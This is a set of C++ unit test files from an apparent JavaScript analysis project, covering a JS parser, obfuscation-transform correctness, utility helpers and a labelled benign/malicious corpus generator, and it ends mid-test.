  const Node* table = nth_var_init(ast.root, 0);
  ASSERT_NE(table, nullptr);
  ASSERT_EQ(table->children.size(), 1u);
  EXPECT_EQ(base64_decode(table->children[0]->str), "round-trip me");
}

TEST(Semantics, GetterIndexArithmeticConsistent) {
  // getter(i) returns table[i - offset]; every call site must therefore
  // carry index + offset. Verify by re-parsing and checking each call's
  // argument >= offset and < offset + table size.
  Rng rng(6);
  js::Ast ast = js::parse("f(\"x\"); g(\"y\"); h(\"x\");");
  extract_string_array(ast, rng, false);
  const std::string out = js::print(ast.root);
  const js::Ast re = js::parse(out);

  // Find the getter's offset: `i - <offset>` inside the getter function.
  double offset = -1;
  js::walk(const_cast<const Node*>(re.root), [&](const Node* n) {
    if (n->kind == NodeKind::kBinaryExpression && n->str == "-" &&
        n->children[0]->kind == NodeKind::kIdentifier &&
        n->children[0]->str == "i" &&
        n->children[1]->kind == NodeKind::kLiteral) {
      offset = n->children[1]->num;
    }
    return true;
  });
  ASSERT_GE(offset, 0.0);

  std::size_t table_size = 0;
  const Node* table = nth_var_init(re.root, 0);
  ASSERT_NE(table, nullptr);
  table_size = table->children.size();

  int checked = 0;
  js::walk(const_cast<const Node*>(re.root), [&](const Node* n) {
    // Getter call sites: calls whose single argument is a numeric literal.
    if (n->kind == NodeKind::kCallExpression && n->children.size() == 2 &&
        n->children[1]->kind == NodeKind::kLiteral &&
        n->children[1]->lit == LiteralType::kNumber) {
      const double idx = n->children[1]->num;
      EXPECT_GE(idx, offset);
      EXPECT_LT(idx, offset + static_cast<double>(table_size));
      ++checked;
    }
    return true;
  });
  EXPECT_GE(checked, 3);
}

TEST(Semantics, FlattenPreservesExecutionOrder) {
  // The dispatch order string must replay the original statement order:
  // decode it and confirm the case bodies, replayed in order-string order,
  // are the original statements.
  Rng rng(7);
  js::Ast ast = js::parse("function f() { a(); b(); c(); d(); }");
  ASSERT_EQ(flatten_control_flow(ast, rng, 3), 1);
  const std::string out = js::print(ast.root);
  const js::Ast re = js::parse(out);

  // Collect order string and the case bodies by tag.
  std::string order;
  std::map<std::string, std::string> case_callee;
  js::walk(const_cast<const Node*>(re.root), [&](const Node* n) {
    if (n->kind == NodeKind::kLiteral && n->lit == LiteralType::kString &&
        n->str.size() > 1 && n->str.find('|') != std::string::npos) {
      order = n->str;
    }
    if (n->kind == NodeKind::kSwitchCase && n->children[0] != nullptr) {
      const std::string tag = n->children[0]->str;
      // First statement of the case is the original ExpressionStatement.
      for (std::size_t i = 1; i < n->children.size(); ++i) {
        const Node* stmt = n->children[i];
        if (stmt->kind == NodeKind::kExpressionStatement &&
            stmt->children[0]->kind == NodeKind::kCallExpression &&
            stmt->children[0]->children[0]->kind == NodeKind::kIdentifier) {
          case_callee[tag] = stmt->children[0]->children[0]->str;
        }
      }
    }
    return true;
  });
  ASSERT_FALSE(order.empty());

  std::string replay;
  std::string tag;
  for (const char c : order + "|") {
    if (c == '|') {
      replay += case_callee[tag];
      tag.clear();
    } else {
      tag += c;
    }
  }
  EXPECT_EQ(replay, "abcd");
}

}  // namespace
}  // namespace jsrev::obf
