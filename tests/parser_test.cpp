#include <gtest/gtest.h>

#include <string>

#include "js/parser.h"
#include "js/visitor.h"

namespace jsrev::js {
namespace {

// Returns the first node of the given kind in preorder, or nullptr.
const Node* find_kind(const Node* root, NodeKind k) {
  const Node* hit = nullptr;
  walk(root, [&](const Node* n) {
    if (hit == nullptr && n->kind == k) hit = n;
    return hit == nullptr;
  });
  return hit;
}

int count_kind(const Node* root, NodeKind k) {
  int n = 0;
  walk_all(root, [&](const Node* node) { n += node->kind == k; });
  return n;
}

TEST(Parser, EmptyProgram) {
  const Ast ast = parse("");
  EXPECT_EQ(ast.root->kind, NodeKind::kProgram);
  EXPECT_TRUE(ast.root->children.empty());
}

TEST(Parser, VariableDeclaration) {
  const Ast ast = parse("var x = 1, y;");
  const Node* decl = ast.root->children[0];
  ASSERT_EQ(decl->kind, NodeKind::kVariableDeclaration);
  EXPECT_EQ(decl->str, "var");
  ASSERT_EQ(decl->children.size(), 2u);
  EXPECT_EQ(decl->children[0]->children[0]->str, "x");
  EXPECT_EQ(decl->children[1]->children[1], nullptr);
}

TEST(Parser, LetConst) {
  const Ast ast = parse("let a = 1; const b = 2;");
  EXPECT_EQ(ast.root->children[0]->str, "let");
  EXPECT_EQ(ast.root->children[1]->str, "const");
}

TEST(Parser, BinaryPrecedence) {
  const Ast ast = parse("x = 1 + 2 * 3;");
  const Node* assign = find_kind(ast.root, NodeKind::kAssignmentExpression);
  ASSERT_NE(assign, nullptr);
  const Node* plus = assign->children[1];
  ASSERT_EQ(plus->kind, NodeKind::kBinaryExpression);
  EXPECT_EQ(plus->str, "+");
  EXPECT_EQ(plus->children[1]->str, "*");
}

TEST(Parser, LeftAssociativity) {
  const Ast ast = parse("r = a - b - c;");
  const Node* outer =
      find_kind(ast.root, NodeKind::kAssignmentExpression)->children[1];
  // (a - b) - c
  EXPECT_EQ(outer->children[0]->kind, NodeKind::kBinaryExpression);
  EXPECT_EQ(outer->children[1]->kind, NodeKind::kIdentifier);
}

TEST(Parser, LogicalVsBinary) {
  const Ast ast = parse("r = a && b || c;");
  const Node* outer =
      find_kind(ast.root, NodeKind::kAssignmentExpression)->children[1];
  EXPECT_EQ(outer->kind, NodeKind::kLogicalExpression);
  EXPECT_EQ(outer->str, "||");
  EXPECT_EQ(outer->children[0]->str, "&&");
}

TEST(Parser, ConditionalExpression) {
  const Ast ast = parse("r = a ? b : c;");
  EXPECT_NE(find_kind(ast.root, NodeKind::kConditionalExpression), nullptr);
}

TEST(Parser, MemberAndCall) {
  const Ast ast = parse("obj.foo.bar(1, 2)[x]();");
  EXPECT_EQ(count_kind(ast.root, NodeKind::kMemberExpression), 3);
  EXPECT_EQ(count_kind(ast.root, NodeKind::kCallExpression), 2);
}

TEST(Parser, ComputedMemberFlag) {
  const Ast ast = parse("a[b]; a.b;");
  const Node* computed = find_kind(ast.root, NodeKind::kMemberExpression);
  EXPECT_TRUE(computed->has_flag(Node::kComputed));
}

TEST(Parser, NewExpression) {
  const Ast ast = parse("var d = new Date(); var x = new a.b.C(1);");
  EXPECT_EQ(count_kind(ast.root, NodeKind::kNewExpression), 2);
}

TEST(Parser, NewWithoutArguments) {
  const Ast ast = parse("var d = new Date;");
  const Node* n = find_kind(ast.root, NodeKind::kNewExpression);
  ASSERT_NE(n, nullptr);
  EXPECT_EQ(n->children.size(), 1u);  // just the callee
}

TEST(Parser, FunctionDeclaration) {
  const Ast ast = parse("function add(a, b) { return a + b; }");
  const Node* fn = ast.root->children[0];
  ASSERT_EQ(fn->kind, NodeKind::kFunctionDeclaration);
  EXPECT_EQ(fn->str, "add");
  EXPECT_EQ(fn->children.size(), 3u);  // 2 params + body
  EXPECT_EQ(fn->children.back()->kind, NodeKind::kBlockStatement);
}

TEST(Parser, FunctionExpressionAndIife) {
  const Ast ast = parse("(function() { var x = 1; })();");
  EXPECT_NE(find_kind(ast.root, NodeKind::kFunctionExpression), nullptr);
  EXPECT_NE(find_kind(ast.root, NodeKind::kCallExpression), nullptr);
}

TEST(Parser, ArrowFunctions) {
  const Ast ast = parse("var f = x => x + 1; var g = (a, b) => { return a; };");
  EXPECT_EQ(count_kind(ast.root, NodeKind::kArrowFunctionExpression), 2);
}

TEST(Parser, ObjectLiteral) {
  const Ast ast = parse("var o = {a: 1, \"b\": 2, 3: x, if: 4};");
  EXPECT_EQ(count_kind(ast.root, NodeKind::kProperty), 4);
}

TEST(Parser, ArrayLiteralWithHoles) {
  const Ast ast = parse("var a = [1, , 3];");
  const Node* arr = find_kind(ast.root, NodeKind::kArrayExpression);
  ASSERT_EQ(arr->children.size(), 3u);
  EXPECT_EQ(arr->children[1], nullptr);
}

TEST(Parser, IfElseChain) {
  const Ast ast = parse("if (a) b(); else if (c) d(); else e();");
  EXPECT_EQ(count_kind(ast.root, NodeKind::kIfStatement), 2);
}

TEST(Parser, ForClassic) {
  const Ast ast = parse("for (var i = 0; i < 10; i++) { work(i); }");
  const Node* f = find_kind(ast.root, NodeKind::kForStatement);
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->children[0]->kind, NodeKind::kVariableDeclaration);
  EXPECT_NE(f->children[1], nullptr);
  EXPECT_NE(f->children[2], nullptr);
}

TEST(Parser, ForEmptyHeads) {
  const Ast ast = parse("for (;;) { break; }");
  const Node* f = find_kind(ast.root, NodeKind::kForStatement);
  EXPECT_EQ(f->children[0], nullptr);
  EXPECT_EQ(f->children[1], nullptr);
  EXPECT_EQ(f->children[2], nullptr);
}

TEST(Parser, ForIn) {
  const Ast ast = parse("for (var k in obj) { use(k); }");
  const Node* f = find_kind(ast.root, NodeKind::kForInStatement);
  ASSERT_NE(f, nullptr);
  EXPECT_FALSE(f->has_flag(Node::kOfLoop));
}

TEST(Parser, ForOf) {
  const Ast ast = parse("for (var v of list) { use(v); }");
  const Node* f = find_kind(ast.root, NodeKind::kForInStatement);
  ASSERT_NE(f, nullptr);
  EXPECT_TRUE(f->has_flag(Node::kOfLoop));
}

TEST(Parser, WhileAndDoWhile) {
  const Ast ast = parse("while (a) b(); do { c(); } while (d);");
  EXPECT_NE(find_kind(ast.root, NodeKind::kWhileStatement), nullptr);
  EXPECT_NE(find_kind(ast.root, NodeKind::kDoWhileStatement), nullptr);
}

TEST(Parser, SwitchWithDefault) {
  const Ast ast = parse(
      "switch (x) { case 1: a(); break; case 2: b(); break; default: c(); }");
  const Node* sw = find_kind(ast.root, NodeKind::kSwitchStatement);
  ASSERT_NE(sw, nullptr);
  EXPECT_EQ(count_kind(sw, NodeKind::kSwitchCase), 3);
  // default case has nullptr test slot
  const Node* last = sw->children.back();
  EXPECT_EQ(last->children[0], nullptr);
}

TEST(Parser, TryCatchFinally) {
  const Ast ast = parse("try { a(); } catch (e) { b(e); } finally { c(); }");
  const Node* t = find_kind(ast.root, NodeKind::kTryStatement);
  ASSERT_NE(t, nullptr);
  EXPECT_NE(t->children[1], nullptr);
  EXPECT_NE(t->children[2], nullptr);
}

TEST(Parser, TryWithoutHandlerThrows) {
  EXPECT_THROW(parse("try { a(); }"), ParseError);
}

TEST(Parser, ThrowStatement) {
  const Ast ast = parse("throw new Error('x');");
  EXPECT_NE(find_kind(ast.root, NodeKind::kThrowStatement), nullptr);
}

TEST(Parser, LabeledBreakContinue) {
  const Ast ast = parse(
      "outer: for (;;) { for (;;) { break outer; } continue outer; }");
  const Node* lab = find_kind(ast.root, NodeKind::kLabeledStatement);
  ASSERT_NE(lab, nullptr);
  EXPECT_EQ(lab->str, "outer");
  EXPECT_EQ(find_kind(ast.root, NodeKind::kBreakStatement)->str, "outer");
}

TEST(Parser, WithStatement) {
  const Ast ast = parse("with (obj) { a = b; }");
  EXPECT_NE(find_kind(ast.root, NodeKind::kWithStatement), nullptr);
}

TEST(Parser, SequenceExpression) {
  const Ast ast = parse("a = (b, c, d);");
  const Node* seq = find_kind(ast.root, NodeKind::kSequenceExpression);
  ASSERT_NE(seq, nullptr);
  EXPECT_EQ(seq->children.size(), 3u);
}

TEST(Parser, UnaryOperators) {
  const Ast ast = parse("x = typeof a; y = -b; z = !c; delete o.p; void 0;");
  EXPECT_EQ(count_kind(ast.root, NodeKind::kUnaryExpression), 5);
}

TEST(Parser, UpdatePrefixPostfix) {
  const Ast ast = parse("++i; j--;");
  const Node* pre = find_kind(ast.root, NodeKind::kUpdateExpression);
  EXPECT_TRUE(pre->has_flag(Node::kPrefix));
  int postfix = 0;
  walk_all(ast.root, [&](const Node* n) {
    if (n->kind == NodeKind::kUpdateExpression && !n->has_flag(Node::kPrefix))
      ++postfix;
  });
  EXPECT_EQ(postfix, 1);
}

TEST(Parser, CompoundAssignment) {
  const Ast ast = parse("a += 1; b <<= 2; c >>>= 3;");
  EXPECT_EQ(count_kind(ast.root, NodeKind::kAssignmentExpression), 3);
}

TEST(Parser, InvalidAssignmentTargetThrows) {
  EXPECT_THROW(parse("1 = x;"), ParseError);
}

TEST(Parser, AutomaticSemicolonInsertion) {
  const Ast ast = parse("var a = 1\nvar b = 2\nreturn_like()");
  EXPECT_EQ(ast.root->children.size(), 3u);
}

TEST(Parser, ReturnNewlineRestriction) {
  // `return \n x` must parse as `return; x;`
  const Ast ast = parse("function f() { return\n42; }");
  const Node* ret = find_kind(ast.root, NodeKind::kReturnStatement);
  EXPECT_TRUE(ret->children.empty());
}

TEST(Parser, MissingSemicolonSameLineThrows) {
  EXPECT_THROW(parse("var a = 1 var b = 2"), ParseError);
}

TEST(Parser, InOperatorInsideForInit) {
  // `in` must not terminate the init clause when parenthesized context
  const Ast ast = parse("for (var i = 0; i < n; i++) { if ('x' in o) y(); }");
  EXPECT_NE(find_kind(ast.root, NodeKind::kForStatement), nullptr);
}

TEST(Parser, KeywordAsPropertyName) {
  const Ast ast = parse("a.delete(); b.in = 1; c.typeof;");
  EXPECT_EQ(count_kind(ast.root, NodeKind::kMemberExpression), 3);
}

TEST(Parser, RegexLiteral) {
  const Ast ast = parse("var re = /a[b/]+/g;");
  const Node* lit = find_kind(ast.root, NodeKind::kLiteral);
  EXPECT_EQ(lit->lit, LiteralType::kRegex);
}

TEST(Parser, TemplateLiteralAsString) {
  const Ast ast = parse("var s = `hello`;");
  const Node* lit = find_kind(ast.root, NodeKind::kLiteral);
  EXPECT_EQ(lit->lit, LiteralType::kString);
  EXPECT_EQ(lit->str, "hello");
}

TEST(Parser, FinalizeAssignsIdsAndParents) {
  const Ast ast = parse("var x = f(1) + 2;");
  EXPECT_EQ(ast.root->id, 0);
  walk(const_cast<const Node*>(ast.root), [&](const Node* n) {
    if (n != ast.root) {
      EXPECT_NE(n->parent, nullptr);
      EXPECT_GT(n->id, n->parent->id);
    }
    return true;
  });
}

TEST(Parser, ParsesOkHelper) {
  EXPECT_TRUE(parses_ok("var x = 1;"));
  EXPECT_FALSE(parses_ok("var = ;"));
}

TEST(Parser, DeeplyNestedExpressions) {
  std::string src = "x = ";
  for (int i = 0; i < 50; ++i) src += "(1 + ";
  src += "0";
  for (int i = 0; i < 50; ++i) src += ")";
  src += ";";
  EXPECT_TRUE(parses_ok(src));
}

TEST(Parser, RealWorldSnippet) {
  // The motivating example shape from the paper's Listing 1 region.
  const char* src = R"JS(
    function getTimezoneOffset(dateStr) {
      var timeZoneMinutes = new Date(dateStr).getTimezoneOffset();
      var hours = Math.floor(timeZoneMinutes / 60);
      var minutes = timeZoneMinutes % 60;
      if (hours < 0) {
        return "-" + pad(-hours) + ":" + pad(minutes);
      } else {
        return "+" + pad(hours) + ":" + pad(minutes);
      }
    }
  )JS";
  EXPECT_TRUE(parses_ok(src));
}

TEST(Parser, GetSetAsIdentifiers) {
  EXPECT_TRUE(parses_ok("var get = 1; var set = get + 1; set = get;"));
}

TEST(Parser, ExpressionStatementParenthesizedObject) {
  EXPECT_TRUE(parses_ok("({a: 1});"));
}

}  // namespace
}  // namespace jsrev::js
