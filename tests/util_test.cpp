#include <gtest/gtest.h>

#include <atomic>
#include <set>
#include <stdexcept>
#include <string>
#include <vector>

#include "util/base64.h"
#include "util/hash.h"
#include "util/rng.h"
#include "util/string_util.h"
#include "util/table.h"
#include "util/thread_pool.h"
#include "util/timer.h"

namespace jsrev {
namespace {

TEST(Hash, Deterministic) {
  EXPECT_EQ(fnv1a64("abc"), fnv1a64("abc"));
  EXPECT_NE(fnv1a64("abc"), fnv1a64("abd"));
  EXPECT_NE(fnv1a64(""), fnv1a64("a"));
}

TEST(Hash, CombineOrderSensitive) {
  const auto a = hash_combine(fnv1a64("x"), fnv1a64("y"));
  const auto b = hash_combine(fnv1a64("y"), fnv1a64("x"));
  EXPECT_NE(a, b);
}

TEST(Rng, DeterministicForSameSeed) {
  Rng a(42), b(42);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(a(), b());
}

TEST(Rng, DifferentSeedsDiffer) {
  Rng a(1), b(2);
  int same = 0;
  for (int i = 0; i < 100; ++i) same += (a() == b());
  EXPECT_LT(same, 3);
}

TEST(Rng, BelowInRange) {
  Rng r(7);
  for (int i = 0; i < 1000; ++i) {
    EXPECT_LT(r.below(17), 17u);
  }
}

TEST(Rng, UniformInUnitInterval) {
  Rng r(11);
  double sum = 0;
  for (int i = 0; i < 10000; ++i) {
    const double v = r.uniform();
    ASSERT_GE(v, 0.0);
    ASSERT_LT(v, 1.0);
    sum += v;
  }
  EXPECT_NEAR(sum / 10000, 0.5, 0.02);
}

TEST(Rng, NormalMoments) {
  Rng r(13);
  double sum = 0, sq = 0;
  constexpr int n = 20000;
  for (int i = 0; i < n; ++i) {
    const double v = r.normal();
    sum += v;
    sq += v * v;
  }
  EXPECT_NEAR(sum / n, 0.0, 0.05);
  EXPECT_NEAR(sq / n, 1.0, 0.05);
}

TEST(Rng, ShuffleIsPermutation) {
  Rng r(3);
  std::vector<int> v{1, 2, 3, 4, 5, 6, 7, 8};
  auto orig = v;
  r.shuffle(v);
  std::multiset<int> a(v.begin(), v.end()), b(orig.begin(), orig.end());
  EXPECT_EQ(a, b);
}

TEST(Rng, ForkIndependent) {
  Rng a(5);
  Rng child = a.fork();
  EXPECT_NE(a(), child());
}

TEST(Base64, RoundTrip) {
  for (const std::string s :
       {"", "a", "ab", "abc", "abcd", "hello world", "\x00\xff\x10"}) {
    EXPECT_EQ(base64_decode(base64_encode(s)), s) << s;
  }
}

TEST(Base64, KnownVector) {
  EXPECT_EQ(base64_encode("Man"), "TWFu");
  EXPECT_EQ(base64_encode("Ma"), "TWE=");
  EXPECT_EQ(base64_encode("M"), "TQ==");
  EXPECT_EQ(base64_decode("TWFu"), "Man");
}

TEST(Base64, StrictAcceptsCanonicalForms) {
  // Padded canonical encodings, plus the unpadded final quanta the strict
  // decoder still accepts (2- and 3-char remainders with zero stray bits).
  EXPECT_EQ(base64_decode_strict("TWFu"), "Man");
  EXPECT_EQ(base64_decode_strict("TWE="), "Ma");
  EXPECT_EQ(base64_decode_strict("TQ=="), "M");
  EXPECT_EQ(base64_decode_strict("TWE"), "Ma");
  EXPECT_EQ(base64_decode_strict("TQ"), "M");
  EXPECT_EQ(base64_decode_strict(""), "");
  for (const std::string s : {"", "a", "ab", "abc", "hello world"}) {
    EXPECT_EQ(base64_decode_strict(base64_encode(s)), s) << s;
  }
}

TEST(Base64, StrictRejectsMalformedInput) {
  // Invalid characters anywhere (the lenient decoder skips these).
  EXPECT_FALSE(base64_decode_strict("TW Fu").has_value());
  EXPECT_FALSE(base64_decode_strict("TW\nFu").has_value());
  EXPECT_FALSE(base64_decode_strict("TW$u").has_value());
  // Padding anywhere but the end, or the wrong amount of it.
  EXPECT_FALSE(base64_decode_strict("AB==CD").has_value());
  EXPECT_FALSE(base64_decode_strict("T===").has_value());
  EXPECT_FALSE(base64_decode_strict("TQ=").has_value());
  EXPECT_FALSE(base64_decode_strict("TWFu=").has_value());
  // A final quantum of one character can never carry a whole byte.
  EXPECT_FALSE(base64_decode_strict("TWFuT").has_value());
  EXPECT_FALSE(base64_decode_strict("=").has_value());
  // Nonzero stray bits in the final quantum: atob("QR==") throws in
  // browsers ('R' leaves 0b0001 unconsumed), the lenient decoder shrugs.
  EXPECT_FALSE(base64_decode_strict("QR==").has_value());
  EXPECT_FALSE(base64_decode_strict("QUJDRR==").has_value());
}

TEST(StringUtil, ParseU64) {
  std::uint64_t v = 99;
  EXPECT_TRUE(parse_u64("0", &v));
  EXPECT_EQ(v, 0u);
  EXPECT_TRUE(parse_u64("18446744073709551615", &v));  // UINT64_MAX
  EXPECT_EQ(v, 18446744073709551615ull);
  // Rejections leave *out untouched.
  v = 7;
  EXPECT_FALSE(parse_u64("", &v));
  EXPECT_FALSE(parse_u64("18446744073709551616", &v));  // UINT64_MAX + 1
  EXPECT_FALSE(parse_u64("-1", &v));
  EXPECT_FALSE(parse_u64("+1", &v));
  EXPECT_FALSE(parse_u64(" 1", &v));
  EXPECT_FALSE(parse_u64("1 ", &v));
  EXPECT_FALSE(parse_u64("12x", &v));
  EXPECT_FALSE(parse_u64("0x10", &v));
  EXPECT_EQ(v, 7u);
}

TEST(StringUtil, ParseSizeAndPositiveInt) {
  std::size_t n = 0;
  EXPECT_TRUE(parse_size("4096", &n));
  EXPECT_EQ(n, 4096u);
  EXPECT_FALSE(parse_size("4096q", &n));
  EXPECT_FALSE(parse_size("", &n));

  int i = 0;
  EXPECT_TRUE(parse_positive_int("17", &i));
  EXPECT_EQ(i, 17);
  EXPECT_FALSE(parse_positive_int("0", &i));  // positive means > 0
  EXPECT_FALSE(parse_positive_int("-3", &i));
  EXPECT_FALSE(parse_positive_int("2147483648", &i));  // INT_MAX + 1
  EXPECT_TRUE(parse_positive_int("2147483647", &i));
  EXPECT_EQ(i, 2147483647);
}

TEST(StringUtil, Split) {
  const auto parts = split("a,b,,c", ',');
  ASSERT_EQ(parts.size(), 4u);
  EXPECT_EQ(parts[0], "a");
  EXPECT_EQ(parts[2], "");
  EXPECT_EQ(parts[3], "c");
}

TEST(StringUtil, Join) {
  EXPECT_EQ(join({"a", "b", "c"}, "->"), "a->b->c");
  EXPECT_EQ(join({}, ","), "");
}

TEST(StringUtil, Trim) {
  EXPECT_EQ(trim("  x  "), "x");
  EXPECT_EQ(trim(""), "");
  EXPECT_EQ(trim("   "), "");
}

TEST(StringUtil, ReplaceAll) {
  EXPECT_EQ(replace_all("aaa", "a", "bb"), "bbbbbb");
  EXPECT_EQ(replace_all("xyz", "q", "r"), "xyz");
}

TEST(StringUtil, JsEscape) {
  EXPECT_EQ(js_escape("a\"b"), "a\\\"b");
  EXPECT_EQ(js_escape("a\nb"), "a\\nb");
  EXPECT_EQ(js_escape("a\\b"), "a\\\\b");
}

TEST(StringUtil, JsEscapeControlBytes) {
  // Named short escapes.
  EXPECT_EQ(js_escape("a\bb"), "a\\bb");
  EXPECT_EQ(js_escape("a\fb"), "a\\fb");
  EXPECT_EQ(js_escape("a\vb"), "a\\vb");
  EXPECT_EQ(js_escape("a\rb"), "a\\rb");
  EXPECT_EQ(js_escape("a\tb"), "a\\tb");
  // NUL uses \x00 (not \0, whose meaning depends on the following digit).
  EXPECT_EQ(js_escape(std::string("a\0b", 3)), "a\\x00b");
  // Remaining control bytes and DEL get two-digit hex escapes.
  EXPECT_EQ(js_escape("\x01"), "\\x01");
  EXPECT_EQ(js_escape("\x1f"), "\\x1f");
  EXPECT_EQ(js_escape("\x7f"), "\\x7f");
  // Printable ASCII is untouched.
  EXPECT_EQ(js_escape(" ~azAZ09"), " ~azAZ09");
}

TEST(StringUtil, Fmt) {
  EXPECT_EQ(fmt(3.14159, 2), "3.14");
  EXPECT_EQ(fmt(99.95, 1), "100.0");
}

TEST(Table, RendersAllCells) {
  Table t({"col1", "c2"});
  t.add_row({"a", "b"});
  t.add_row({"longer", "x"});
  const std::string s = t.to_string();
  EXPECT_NE(s.find("col1"), std::string::npos);
  EXPECT_NE(s.find("longer"), std::string::npos);
  EXPECT_NE(s.find("b"), std::string::npos);
}

TEST(Table, Csv) {
  Table t({"a", "b"});
  t.add_row({"1", "2"});
  EXPECT_EQ(t.to_csv(), "a,b\n1,2\n");
}

TEST(ThreadPool, ParallelForCoversAllIndices) {
  ThreadPool pool(4);
  std::vector<std::atomic<int>> hits(1000);
  pool.parallel_for(1000, [&](std::size_t i) { hits[i]++; });
  for (const auto& h : hits) EXPECT_EQ(h.load(), 1);
}

TEST(ThreadPool, WaitIdleAfterSubmit) {
  ThreadPool pool(2);
  std::atomic<int> counter{0};
  for (int i = 0; i < 50; ++i) {
    pool.submit([&counter] { counter++; });
  }
  pool.wait_idle();
  EXPECT_EQ(counter.load(), 50);
}

TEST(ThreadPool, ParallelForZeroAndTinyN) {
  ThreadPool pool(4);
  int calls = 0;
  pool.parallel_for(0, [&](std::size_t) { ++calls; });
  EXPECT_EQ(calls, 0);

  // n < threads: every index still runs exactly once.
  std::vector<std::atomic<int>> hits(3);
  pool.parallel_for(3, [&](std::size_t i) { hits[i]++; });
  for (const auto& h : hits) EXPECT_EQ(h.load(), 1);
}

TEST(ThreadPool, ThrowingSubmittedTaskDoesNotDeadlockWaitIdle) {
  ThreadPool pool(2);
  std::atomic<int> counter{0};
  pool.submit([] { throw std::runtime_error("task boom"); });
  for (int i = 0; i < 10; ++i) {
    pool.submit([&counter] { counter++; });
  }
  // wait_idle must return (not deadlock) and surface the task's exception.
  EXPECT_THROW(pool.wait_idle(), std::runtime_error);
  EXPECT_EQ(counter.load(), 10);
  // The pool stays usable and the error does not resurface.
  pool.submit([&counter] { counter++; });
  pool.wait_idle();
  EXPECT_EQ(counter.load(), 11);
}

TEST(ThreadPool, ParallelForPropagatesException) {
  ThreadPool pool(4);
  EXPECT_THROW(pool.parallel_for(100,
                                 [](std::size_t i) {
                                   if (i == 57) {
                                     throw std::runtime_error("item boom");
                                   }
                                 }),
               std::runtime_error);
  // Still usable afterwards.
  std::atomic<int> counter{0};
  pool.parallel_for(20, [&](std::size_t) { counter++; });
  EXPECT_EQ(counter.load(), 20);
}

TEST(ThreadPool, ParallelForMaxWorkersCoversAllIndices) {
  ThreadPool pool(8);
  std::vector<std::atomic<int>> hits(500);
  pool.parallel_for(500, [&](std::size_t i) { hits[i]++; }, /*max_workers=*/3);
  for (const auto& h : hits) EXPECT_EQ(h.load(), 1);
}

TEST(ParallelForThreads, SerialWidthRunsInOrder) {
  std::vector<std::size_t> order;
  parallel_for_threads(1, 5, [&](std::size_t i) { order.push_back(i); });
  EXPECT_EQ(order, (std::vector<std::size_t>{0, 1, 2, 3, 4}));
}

TEST(ParallelForThreads, ParallelWidthCoversAllIndices) {
  std::vector<std::atomic<int>> hits(777);
  parallel_for_threads(4, 777, [&](std::size_t i) { hits[i]++; });
  for (const auto& h : hits) EXPECT_EQ(h.load(), 1);
}

TEST(ResolveThreads, ZeroMeansHardwareConcurrency) {
  EXPECT_GE(resolve_threads(0), 1u);
  EXPECT_EQ(resolve_threads(1), 1u);
  EXPECT_EQ(resolve_threads(6), 6u);
}

TEST(TimingStats, MeanAndStddev) {
  TimingStats s;
  s.add(1.0);
  s.add(3.0);
  EXPECT_DOUBLE_EQ(s.mean(), 2.0);
  EXPECT_NEAR(s.stddev(), 1.4142, 1e-3);
}

TEST(TimingStats, TotalAndWallAccumulate) {
  TimingStats s;
  EXPECT_DOUBLE_EQ(s.total(), 0.0);
  EXPECT_DOUBLE_EQ(s.wall_ms(), 0.0);
  s.add(1.5);
  s.add(2.5);
  s.add_wall(3.0);
  s.add_wall(1.0);
  EXPECT_DOUBLE_EQ(s.total(), 4.0);
  EXPECT_DOUBLE_EQ(s.wall_ms(), 4.0);
  EXPECT_EQ(s.count(), 2u);  // wall samples are not per-item samples
}

TEST(TimingStats, ResetZeroesBothAccumulators) {
  TimingStats s;
  s.add(2.0);
  s.add_wall(5.0);
  s.reset();
  EXPECT_EQ(s.count(), 0u);
  EXPECT_DOUBLE_EQ(s.total(), 0.0);
  EXPECT_DOUBLE_EQ(s.wall_ms(), 0.0);
  // Still usable after reset, reporting only post-reset samples.
  s.add(1.0);
  s.add_wall(1.5);
  EXPECT_EQ(s.count(), 1u);
  EXPECT_DOUBLE_EQ(s.total(), 1.0);
  EXPECT_DOUBLE_EQ(s.wall_ms(), 1.5);
}

TEST(TimingStats, RegistryMirrorKeepsCumulativeHistoryAcrossReset) {
  obs::Summary* mirror =
      obs::metrics().summary("stage_ms", {{"stage", "util_test_stage"}});
  const std::uint64_t before = mirror->count();
  TimingStats s("util_test_stage");
  s.add(2.0);
  s.reset();  // local view zeroed; the global mirror is cumulative
  s.add(3.0);
  EXPECT_EQ(s.count(), 1u);
  EXPECT_EQ(mirror->count(), before + 2);
}

TEST(Timer, MeasuresElapsed) {
  Timer t;
  volatile double x = 0;
  for (int i = 0; i < 100000; ++i) x = x + i;
  EXPECT_GE(t.elapsed_ms(), 0.0);
}

}  // namespace
}  // namespace jsrev
