#include <gtest/gtest.h>

#include <set>

#include "dataset/corpus.h"
#include "dataset/generator.h"
#include "js/parser.h"
#include "util/rng.h"

namespace jsrev::dataset {
namespace {

TEST(Generator, BenignScriptsParse) {
  Rng rng(1);
  for (int i = 0; i < 40; ++i) {
    std::string genre;
    const std::string src = generate_benign(rng, &genre);
    EXPECT_TRUE(js::parses_ok(src)) << genre << "\n" << src;
    EXPECT_FALSE(genre.empty());
  }
}

TEST(Generator, MaliciousScriptsParse) {
  Rng rng(2);
  for (int i = 0; i < 40; ++i) {
    std::string family;
    const std::string src = generate_malicious(rng, &family);
    EXPECT_TRUE(js::parses_ok(src)) << family << "\n" << src;
    EXPECT_FALSE(family.empty());
  }
}

TEST(Generator, ScriptsVary) {
  Rng rng(3);
  std::set<std::string> sources;
  for (int i = 0; i < 20; ++i) {
    sources.insert(generate_benign(rng, nullptr));
  }
  EXPECT_EQ(sources.size(), 20u);
}

TEST(Generator, CorpusRespectsCounts) {
  GeneratorConfig cfg;
  cfg.benign_count = 30;
  cfg.malicious_count = 20;
  const Corpus corpus = generate_corpus(cfg);
  EXPECT_EQ(corpus.size(), 50u);
  EXPECT_EQ(corpus.count_label(0), 30u);
  EXPECT_EQ(corpus.count_label(1), 20u);
}

TEST(Generator, CorpusDeterministicForSeed) {
  GeneratorConfig cfg;
  cfg.benign_count = 10;
  cfg.malicious_count = 10;
  cfg.seed = 99;
  const Corpus a = generate_corpus(cfg);
  const Corpus b = generate_corpus(cfg);
  ASSERT_EQ(a.size(), b.size());
  for (std::size_t i = 0; i < a.size(); ++i) {
    EXPECT_EQ(a.samples[i].source, b.samples[i].source);
  }
}

TEST(Generator, DifferentSeedsDiffer) {
  GeneratorConfig a_cfg, b_cfg;
  a_cfg.benign_count = b_cfg.benign_count = 5;
  a_cfg.malicious_count = b_cfg.malicious_count = 5;
  a_cfg.seed = 1;
